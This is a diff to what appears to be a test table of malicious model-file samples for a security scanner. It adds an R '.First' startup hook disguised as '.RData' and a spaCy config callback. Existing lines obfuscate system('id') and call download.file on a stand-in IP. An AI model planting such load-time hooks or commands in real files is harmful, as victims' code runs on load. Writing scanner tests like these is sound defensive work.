@@ -100,6 +100,9 @@ MODEL_ATTACKS = {
             "a promise of bytecode": r(x.promise(x.bytecode(x.constant("system")))),
             "a promise that resolves a name": r(x.promise(x.call("do.call", x.texts("sys" "tem"), x.texts("id")))),
             "a promise that functions keep": enclosed(x.promise(x.call("download.file", x.texts("http://198.51.100.7")))),
+            "a function that R calls when it starts": (
+                r(x.pair(x.closure(x.call("brew")), tag=x.symbol(".First")), line=b"RDX3\n"), {"name": ".RData"}
+            ),
             "an active binding": enclosed(x.closure(HARM), levels=1 << 15),
         },
         **AT_LOAD,
@@ -360,6 +363,7 @@ MODEL_ATTACKS = {
             "7.12",
             {
                 "spaCy: a function of another package": spacy('@architectures = "mine.deep.Model.v1"'),
+                "spaCy: the same in a line": spacy('before_creation = {"@callbacks": "mine.deep.call.v1"}'),
                 "spaCy: a component of another package": spacy('factory = "mine"'),
             },
             rule="spacy-registry", severity="low", verdict="clean", name="config.cfg",
